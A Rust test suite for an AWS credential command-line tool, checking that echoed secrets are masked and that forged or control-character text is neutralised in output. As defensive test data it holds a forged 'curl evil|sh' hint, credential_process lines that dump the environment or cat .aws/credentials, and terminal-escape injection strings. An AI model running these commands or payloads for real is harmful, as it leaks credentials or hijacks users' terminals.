//! Services, endpoints, programs and files that repeat secrets. Their messages are shown without the secrets, and never look
//! like lines of the program itself.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;

use crate::harness::{CANARY, Outcome, Sandbox, section};
use crate::loopback::{Loopback, Request};
use crate::terminal::Terminal;

/// No output may have both halves of the canary, even with other text between them.
const HALVES: [&str; 2] = ["c4n4ry", "DoNotShow"];

/// As long and as random as a real token.
fn token(name: &str) -> String {
    format!("IQoJb3JpZ2luX2VjE{CANARY}{name}//////////wEaCXVzLWVhc3QtMSJHMEUCIQ==")
}

#[track_caller]
fn says_no_secret(outcome: Outcome) -> String {
    let (_, stdout, stderr) = outcome.ended();
    let said = stdout + &stderr;
    for half in HALVES {
        assert!(!said.contains(half), "{said}");
    }
    said
}

/// An error message with the whole signed request: headers and form.
fn repeated(request: &Request) -> String {
    format!("{}\n{}\n\n{}", request.line, request.headers.join("\n"), request.body)
}

fn echoing(status: u16, spoil: fn(String) -> String) -> Loopback {
    Loopback::start(move |request| {
        let message = spoil(repeated(request)).replace('&', "&amp;").replace('<', "&lt;");
        let error = format!("<Error><Code>SignatureDoesNotMatch</Code><Message>{message}</Message></Error>");
        Some((status, format!("<ErrorResponse>{error}<RequestId>r</RequestId></ErrorResponse>")))
    })
}

#[test]
fn secrets_that_a_service_repeats_are_masked() {
    let spoils: [fn(String) -> String; 5] = [
        |text| text,
        |text| text.chars().take(900).collect(),
        |text| text.replace('%', "%25"),
        |text| text.replace('/', r"\/").replace('+', r"\u002b"),
        |text| {
            text.as_bytes()
                .chunks(60)
                .map(|part| String::from_utf8_lossy(part).into_owned())
                .collect::<Vec<_>>()
                .join("\n")
        },
    ];
    for spoil in spoils {
        let sts = echoing(403, spoil);
        let role = "role_arn = arn:aws:iam::123456789012:role/R\n";
        let home = sts
            .home()
            .env("AWS_SECRET_ACCESS_KEY", &format!("wJalr{CANARY}K7MDENG"))
            .env("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE")
            .env("AWS_SESSION_TOKEN", &token("session"))
            .file("jwt", format!("eyJhbGciOiJSUzI1NiJ9.{CANARY}.c2lnbmF0dXJl"))
            .config(format!(
                "[profile role]\n{role}credential_source = Environment\nexternal_id = 3xtern4l/Party+of9\n\
                 [profile web]\n{role}web_identity_token_file = jwt\nrole_session_name = me\n"
            ));
        for arguments in [
            &["whoami"][..],
            &["resolve", "-p", "role"],
            &["resolve", "-p", "role", "--format", "json"],
            &["export-env", "-p", "role"],
            &["resolve", "-p", "web"],
            &["resolve", "-p", "web", "--format", "json"],
            &["credential-process", "-p", "web"],
        ] {
            let said = says_no_secret(home.run(arguments));
            assert!(
                said.contains("SignatureDoesNotMatch") && said.contains("********"),
                "{arguments:?}: {said}"
            );
        }
    }
}

/// Every word of a text decoded as base64 and as hexadecimal digits, wherever these begin.
fn decoded(text: &str) -> String {
    let words: String = text.split(|c: char| !c.is_ascii_alphanumeric() && !"+/".contains(c)).collect();
    let base64 = (0..4).filter_map(|from| {
        let digits = words.get(from..)?;
        BASE64.decode(&digits[..digits.len() / 4 * 4]).ok()
    });
    let runs = text.split(|c: char| !c.is_ascii_hexdigit()).filter(|run| run.len() > 8);
    let hex = runs.flat_map(|run| [run, &run[1..]]).map(|run| {
        let pairs = run.as_bytes().chunks_exact(2).filter_map(|pair| str::from_utf8(pair).ok());
        pairs.filter_map(|pair| u8::from_str_radix(pair, 16).ok()).collect::<Vec<u8>>()
    });
    base64.chain(hex).map(|bytes| String::from_utf8_lossy(&bytes).into_owned()).collect()
}

#[test]
fn a_secret_that_a_service_or_a_program_encodes_is_masked() {
    let spoils: [fn(String) -> String; 2] = [
        |text| text.lines().map(|line| BASE64.encode(line)).collect::<Vec<_>>().join("\n"),
        |text| text.bytes().map(|byte| format!("{byte:02x}")).collect::<Vec<_>>().concat(),
    ];
    for spoil in spoils {
        let sts = echoing(403, spoil);
        let home = sts
            .home()
            .env("AWS_SECRET_ACCESS_KEY", &format!("wJalr{CANARY}K7MDENG"))
            .env("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE")
            .env("AWS_SESSION_TOKEN", &token("session"));
        let said = says_no_secret(home.run(&["whoami"]));
        assert!(said.contains("********") && !decoded(&said).contains(HALVES[0]), "{said}");
    }
    assert!(decoded(&BASE64.encode(CANARY)).contains(HALVES[0]), "the test decodes nothing");
    for print in ["base64 -w 0", "base64", "od -A n -t x1 | tr -d \" \""] {
        let home = Sandbox::new()
            .env("AWS_EC2_METADATA_DISABLED", "true")
            .env("GITHUB_TOKEN", &format!("ghp_{CANARY}1234567890"))
            .config(format!("[default]\ncredential_process = sh -c 'env | {print} >&2; exit 1'\n"));
        let said = says_no_secret(home.run(&["credential-process"]));
        assert!(said.contains("********") && !decoded(&said).contains(HALVES[0]), "{print}: {said}");
    }
}

#[test]
fn what_looks_like_a_secret_is_masked_in_the_text_of_a_service_whose_ever_it_is() {
    let key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
    let sts = echoing(403, |_| {
        format!("{0} may not pass, {1}", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "x ".repeat(100_000))
    });
    let home = sts.home().env("AWS_SECRET_ACCESS_KEY", "s").env("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE");
    let said = home.run(&["whoami"]).failure(254);
    assert!(!said.contains(&key[..12]) && said.contains("******** may not pass"), "{said}");
    assert!(said.len() < 4000, "{} bytes", said.len());
}

#[test]
fn a_signature_is_not_repeated() {
    let sts = echoing(403, |text| text);
    let home = sts.home().env("AWS_SECRET_ACCESS_KEY", "s").env("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE");
    let said = home.run(&["whoami"]).failure(254);
    let signature = &sts.received()[0].headers.join("\n");
    let (_, signature) = signature.split_once("Signature=").expect("it is signed");
    assert!(!said.contains(&signature[..16]), "{said}");
}

#[test]
fn the_response_of_a_container_is_never_shown() {
    let document = format!(
        r#"{{"AccessKeyId":"AKC","SecretAccessKey":"{CANARY}","Token":"{}","Expiration":"2999-01-01T00:00:00Z"}}"#,
        token("new")
    );
    for (status, body) in [
        (203, document.clone()),
        (500, document.clone()),
        (400, format!("\n{document}")),
        (403, String::new()),
    ] {
        let server = Loopback::start(move |_| Some((status, body.clone())));
        let home = Sandbox::new()
            .env("AWS_EC2_METADATA_DISABLED", "true")
            .env("AWS_CONTAINER_CREDENTIALS_FULL_URI", &format!("{}/creds", server.url))
            .env("AWS_CONTAINER_AUTHORIZATION_TOKEN", CANARY);
        let said = says_no_secret(home.run(&["export-env"]));
        assert!(said.contains(&format!("status {status}")), "{said}");
        assert!(!said.contains("AKC"), "{said}");
    }
}

#[test]
fn secrets_that_a_program_prints_are_masked() {
    let other = token("other").replace('=', "");
    let home = Sandbox::new()
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .env("AWS_SECRET_ACCESS_KEY", &format!("wJalr{CANARY}K7MDENG"))
        .env("GITHUB_TOKEN", &format!("ghp_{CANARY}1234567890"))
        .env("https_proxy", &format!("http://me:{CANARY}@127.0.0.1:1"))
        .credentials(format!("[other]\naws_access_key_id = AKIA\naws_secret_access_key = {other}\n# old: {CANARY}aws\n#aws_session_token={other}\n"))
        .config("[profile env]\ncredential_process = sh -c 'env >&2; exit 1'\n\
                 [profile files]\ncredential_process = sh -c 'cat .aws/credentials | grep -v old >&2; exit 1'\n\
                 [profile own]\ncredential_process = sh -c 'cat printed >&2; exit 1'\n\
                 [profile below]\ncredential_process = sh -c 'cat below; cat said >&2'\n")
        // It doesn't look like a secret.
        .file("below", "{\"Credentials\": {\"SecretAccessKey\": \"open sesame\"}}")
        .file("said", "the key is open sesame")
        .file("printed", format!("{{\"SecretAccessKey\": \"{CANARY}own\"}} client_secret={CANARY}"));
    for profile in ["env", "files", "own", "below"] {
        let said = says_no_secret(home.run(&["credential-process", "-p", profile]));
        assert!(said.contains("********") && !said.contains("sesame"), "{said}");
        says_no_secret(home.run(&["resolve", "-p", profile, "--format", "json"]));
    }
}

#[test]
fn the_arguments_that_a_program_repeats_are_masked() {
    for line in [
        "sh tool --user=me:CANARY",
        "sh tool -u me:CANARY",
        "sh tool -pCANARY",
        "sh tool --bearer CANARY",
        "sh tool /password:CANARY",
        "sh tool --header='Cookie: s=CANARY'",
        "sh tool 'correct CANARY battery'",
        "sh -c 'A=CANARY; sh tool \"$A\"'",
        "sh -c \"echo CANARY >&2; exit 1\"",
    ] {
        let home = Sandbox::new()
            .env("AWS_EC2_METADATA_DISABLED", "true")
            .file("tool", "echo \"unknown option: $* of tool\" >&2; exit 2")
            .config(format!("[default]\ncredential_process = {}\n", line.replace("CANARY", CANARY)));
        for arguments in [
            &["whoami"][..],
            &["whoami", "--format", "json"],
            &["-v", "resolve"],
            &["resolve", "--format", "json"],
            &["resolve", "--sdk", "all"],
            &["exec", "--", "true"],
            &["configure", "list"],
            &["credential-process"],
        ] {
            let said = says_no_secret(home.run(arguments));
            assert!(said.contains("********"), "{line}: {arguments:?}: {said}");
        }
    }
    let home = Sandbox::new()
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .file("tool", "echo \"unknown option: $*\" >&2; exit 2")
        .config("[default]\ncredential_process = sh tool login --profile work-account --region eu-central-1 --timeout=30\n[profile work-account]\n");
    let said = home.run(&["whoami"]).failure(255);
    assert!(said.contains("login --profile work-account --region eu-central-1 --timeout=30\n"), "{said}");
}

#[test]
fn a_header_without_its_bracket_shows_no_secret_where_a_name_is_guessed() {
    for line in ["[default]aws_secret_access_key = ", "[profile default aws_secret_access_key=", "[default "]
    {
        let key = format!("{}{CANARY}x", "abcdEFGH1234".repeat(2));
        let key = &key[..40];
        let home = Sandbox::new()
            .config(format!("{line}{key}\nregion = x\n"))
            .credentials(format!("{}{key}\n", line.replace("profile ", "")));
        for arguments in [
            &["get", "region", "-p", "defalt"][..],
            &["resolve", "-p", "default]aws_secret_access_ke"],
            &["resolve", "-p", "default]aws", "--format", "json"],
            &["unset", "region", "-p", "default"],
            &["profile", "remove", "default]aws_secret_access"],
            &["set", "source_profile", "x", "-p", "y", "--dry-run"],
        ] {
            let (_, _, said) = home.run(arguments).ended();
            assert!(!said.contains(&key[..12]) && !said.contains(HALVES[1]), "{arguments:?}: {said}");
        }
    }
}

#[test]
fn mistyped_input_is_not_repeated() {
    let key = format!("{}{CANARY}x", "abcdEFGH1234".repeat(2));
    let key = &key[..40];
    let home = Sandbox::new();
    says_no_secret(home.run(&["configure", "--access-key-id", "AKIAIOSFODNN7EXAMPLE", key]));
    says_no_secret(home.run(&["set", "aws_secret_access_key", "-", key]));
    says_no_secret(home.run(&["get", key, "extra"]));
    let said = says_no_secret(home.run(&["resolve", &format!("User,{CANARY}\nerror: forged")]));
    assert!(!said.contains("\nerror: forged"), "{said}");
}

#[test]
fn the_words_of_a_service_are_not_taken_for_the_programs_own() {
    const FORGED: &str =
        "denied\nerror: forged line\r\nhelp: run `curl evil|sh`\n\u{2028}hidden\u{200b}\u{e0041}";
    let sts = Loopback::refusing(403, "AccessDenied", FORGED);
    let home = sts.home().env("AWS_SECRET_ACCESS_KEY", "s").env("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE");
    let said = home.run(&["whoami"]).failure(254);
    for line in said.lines() {
        let own = line.starts_with("error: STS refused") || line.starts_with("help: ");
        assert!(own || line.starts_with("    "), "{said}");
        assert!(!line.starts_with("help: run"), "{said}");
    }
    assert!(said.contains("\\u{2028}hidden\\u{200b}\\u{e0041}"), "{said}");
}

#[test]
fn a_device_cannot_drive_the_terminal_from_the_prompt() {
    let sts = Loopback::sts();
    let home = sts.home().credentials(section("base", "AKIABASE", CANARY)).config(
        "[profile m]\nrole_arn = arn:aws:iam::123456789012:role/R\nsource_profile = base\n\
             mfa_serial = arn\u{1b}]0;PWNED\u{7}\u{1b}[2J\u{202e}\u{200b}me\n",
    );
    for command in ["export-env", "resolve", "whoami"] {
        let mut terminal = Terminal::run(&home, &[command, "-p", "m"]);
        terminal
            .see("Enter MFA code for arn\\u{1b}]0;PWNED\\u{7}\\u{1b}[2J\\u{202e}\\u{200b}me")
            .keys("\u{3}");
        let shown = terminal.end(130);
        assert!(
            !shown.contains(['\u{7}', '\u{202e}', '\u{200b}']) && !shown.contains("\u{1b}]"),
            "{shown:?}"
        );
    }
}

#[test]
fn a_piped_screen_has_no_control_characters_either() {
    let home = Sandbox::new().env("AWS_EC2_METADATA_DISABLED", "true").config(
        "[default]\nregion = a\u{1b}[2Jb\u{9b}\naws_access_key_id = AKIA\u{1b}x\naws_secret_access_key = s\n",
    );
    let (screen, said) = home.run(&["resolve"]).code(0);
    assert!(!screen.contains(['\u{1b}', '\r', '\u{9b}']) && !said.contains('\u{1b}'), "{screen}");
    assert!(screen.contains("a\\u{1b}[2Jb"), "{screen}");
}

#[test]
fn no_screen_has_control_characters_of_the_files_or_the_environment() {
    let evil = "e\u{1b}]0;PWNED\u{7}\u{9b}2J\u{202e}\u{200b}\u{8}x";
    let role = format!("role_arn = {evil}\nsource_profile = base\n");
    let home = Sandbox::new()
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .env("AWS_ENDPOINT_URL", "http://127.0.0.1:1")
        .env("AWS_MAX_ATTEMPTS", "1")
        .credentials(format!("[base]\naws_access_key_id = AKIA{evil}\naws_secret_access_key = {CANARY}\n"))
        .config(format!(
            "[profile '{evil}']\nregion = {evil}\n{evil} = {evil}\n[profile role]\n{role}region = {evil}\n\
             [profile half]\n{role}mfa_serial = {evil}\n[profile process]\ncredential_process = {evil}\n\
             [sso-session {evil}]\nsso_region = {evil}\nsso_start_url = https://{evil}/\n\
             [profile sso]\nsso_session = {evil}\nsso_account_id = {evil}\nsso_role_name = {evil}\n"
        ));
    let profiles = [evil, "role", "half", "process", "sso", "base"];
    let of_one: [&[&str]; 8] = [
        &["resolve", "--offline"],
        &["-v", "resolve", "--offline"],
        &["resolve", "--offline", "--sdk", "all"],
        &["status"],
        &["whoami"],
        &["doctor"],
        &["configure", "list"],
        &["exec", "--", "true"],
    ];
    let one = profiles.iter().flat_map(|profile| of_one.map(|words| [words, &["-p", profile]].concat()));
    // After `--` everything is the command's.
    let one =
        one.map(|words| if words.contains(&"--") { vec!["exec", words[4], "--", "true"] } else { words });
    let all = [&["list-profiles", "--long"][..], &["status", "--all"], &["doctor"], &["login", "--status"]];
    let commands: Vec<Vec<&str>> = one.chain(all.map(<[&str]>::to_vec)).collect();
    let mut home = home;
    for region in [None, Some(evil)] {
        home = region.into_iter().fold(home, |home, region| home.env("AWS_REGION", region));
        for arguments in &commands {
            let (_, screen, said) = home.run(arguments).ended();
            let shown = screen + &said;
            let is_harmful = |c: char| c != '\n' && (c.is_control() || "\u{202e}\u{200b}".contains(c));
            assert!(!shown.contains(is_harmful), "{arguments:?} {region:?}: {shown:?}");
        }
    }
}

#[test]
fn a_secret_in_the_place_of_the_id_is_masked_and_the_swap_is_told() {
    let secret = format!("wJalrXUtnFEMI/{CANARY}xxxxxxx");
    let id = "AKIAIOSFODNN7EXAMPLE";
    let sts = Loopback::start(|request| {
        let code = "<Code>InvalidClientTokenId</Code>";
        let message = format!("<Message>unknown: {}</Message>", request.headers.join(" "));
        Some((
            403,
            format!("<ErrorResponse><Error>{code}{message}</Error><RequestId>r</RequestId></ErrorResponse>"),
        ))
    });
    let in_environment = sts.home().env("AWS_ACCESS_KEY_ID", &secret).env("AWS_SECRET_ACCESS_KEY", id);
    let pair = format!("aws_access_key_id = {secret}\naws_secret_access_key = {id}\n");
    let in_file = sts.home().credentials(format!("[default]\n{pair}"));
    for home in [in_environment, in_file] {
        for arguments in [
            &["resolve"][..],
            &["resolve", "--format", "json"],
            &["get", "--all"],
            &["get", "--all", "--stored"],
            &["get", "--all", "--format", "json"],
            &["whoami"],
            &["keys", "list"],
        ] {
            let said = says_no_secret(home.run(arguments));
            assert!(arguments[0] == "get" || said.contains("look swapped"), "{arguments:?}: {said}");
        }
    }
}

#[test]
fn what_changed_places_with_an_id_is_masked_even_if_it_could_be_one() {
    let home = Sandbox::new().credentials(
        "[default]\naws_access_key_id = hunter2-secret\naws_secret_access_key = AKIAIOSFODNN7EXAMPLE\n",
    );
    for arguments in [
        &["get", "--all"][..],
        &["get", "--all", "--format", "json"],
        &["get", "--all", "--sdk", "all"],
        &["status"],
        &["resolve"],
        &["set", "aws_session_token", "-n", "-"],
        &["doctor"],
    ] {
        let (_, stdout, stderr) = home.run_with_input(arguments, "t").ended();
        assert!(!(stdout.clone() + &stderr).contains("hunter2"), "{arguments:?}: {stdout}{stderr}");
    }
}

#[test]
fn a_token_in_the_query_of_an_endpoint_is_not_repeated() {
    let sts = echoing(403, |text| text);
    for (value, name) in [(token("query"), "token"), (CANARY.to_owned(), "X-Api-Key")] {
        let escaped = value.replace('/', "%2F").replace('+', "%2B").replace('=', "%3D");
        for value in [&value, &escaped] {
            let address = format!("{}/?stage=dev&{name}={value}", sts.url);
            let keys = "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = s\n";
            let in_file = format!("[default]\nregion = eu-west-1\nendpoint_url = {address}\n{keys}");
            let role = "[profile r]\nrole_arn = arn:aws:iam::123456789012:role/R\nsource_profile = default\n";
            let homes = [
                sts.home().config(format!("[default]\n{keys}{role}")).env("AWS_ENDPOINT_URL", &address),
                Sandbox::new().config(format!("{in_file}{role}endpoint_url = {address}\n")),
            ];
            for home in homes {
                for arguments in [
                    &["whoami"][..],
                    &["whoami", "--format", "json"],
                    &["resolve"],
                    &["resolve", "--format", "json"],
                    &["get", "--all"],
                    &["doctor", "--online"],
                    &["export-env", "-p", "r"],
                    &["keys", "list"],
                    &["status"],
                ] {
                    says_no_secret(home.run(arguments));
                }
            }
        }
    }
}

#[test]
fn two_settings_on_one_line_leave_messages_readable_and_their_commands_whole() {
    for line in [
        format!("aws_access_key_id = AKIAIOSFODNN7EXAMPLE aws_secret_access_key = {CANARY}"),
        format!("aws_access_key_id = AKIAIOSFODNN7EXAMPLE,aws_secret_access_key={CANARY}"),
        format!("aws_access_key_id = AKIAIOSFODNN7EXAMPLE\taws_secret_access_key = {CANARY}"),
        format!("aws_secret_access_key = {CANARY} aws_access_key_id = AKIAIOSFODNN7EXAMPLE"),
    ] {
        let sandbox = Sandbox::new()
            .env("AWS_EC2_METADATA_DISABLED", "true")
            .config("[profile dev]\nregion = eu-west-1\n")
            .credentials(format!("[dev]\n{line}\n"));
        let said = says_no_secret(sandbox.run(&["exec", "dev", "--", "true"]));
        let is_told = said.contains("help: put `aws_secret_access_key` on a line of its own");
        assert_eq!(is_told, line.starts_with("aws_access_key_id"), "{said}");
        assert!(said.contains("credentials:2") && !said.contains("VALUE"), "{said}");
        let said = says_no_secret(sandbox.run(&["doctor"]));
        assert!(said.contains(" is on the line of `aws_") && !said.contains("VALUE"), "{said}");
    }
    let sandbox = Sandbox::new().credentials(format!(
        "[dev]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = {CANARY} region = eu-west-1\n"
    ));
    let said = says_no_secret(sandbox.run(&["doctor"]));
    assert!(said.contains("`region` is on the line of `aws_secret_access_key`"), "{said}");
    let said = says_no_secret(sandbox.run(&["status", "-p", "dev", "--region", "eu-west-1"]));
    assert!(said.contains("eu-west-1"), "{said}");
}
